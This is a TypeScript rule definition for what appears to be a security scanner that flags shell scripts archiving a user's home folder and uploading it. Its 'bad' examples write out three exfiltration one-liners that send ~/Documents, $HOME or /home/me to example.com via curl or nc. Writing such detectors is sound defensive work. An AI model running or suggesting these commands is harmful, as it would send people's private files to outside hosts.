import { anyArgument, call, from } from "../match.ts";
import { defineRule } from "../rule.ts";
import { SHELL_SENDS } from "../vocabulary/shell-commands.ts";
import { homeArchive } from "../vocabulary/sources.ts";

export default defineRule({
  id: "home-folder-sent",
  category: "data_exfiltration",
  severity: "high",
  confidence: "medium",
  languages: ["shell"],
  title: "a whole folder of the user is sent away in one archive",
  why: "Nobody can say what all is in it.",
  fix: "Send the files that are asked for, one by one.",
  references: ["ATT&CK T1560", "ATT&CK T1048"],
  match: call({ of: SHELL_SENDS, where: anyArgument(from(homeArchive)) }),
  bad: [
    { "run.sh": "tar czf - ~/Documents | curl -T - https://example.com" },
    { "run.sh": 'tar -czf /tmp/h.tgz "$HOME"\ncurl -F f=@/tmp/h.tgz https://example.com' },
    { "run.sh": "zip -r h.zip /home/me && nc example.com 4444 < h.zip" },
  ],
  good: [
    { "run.sh": "tar czf - build | curl -T - https://example.com" },
    { "run.sh": "tar czf backup.tgz ~/Documents" },
  ],
});
